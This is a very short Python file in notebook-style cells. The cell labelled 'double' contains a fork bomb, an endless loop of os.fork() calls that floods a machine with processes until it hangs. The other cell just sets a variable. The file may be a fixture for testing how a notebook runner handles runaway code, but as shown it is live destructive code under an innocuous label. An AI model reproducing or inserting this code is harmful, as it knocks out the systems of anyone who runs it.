# %% double
import os

while True:
    os.fork()

# %% total
total = 1
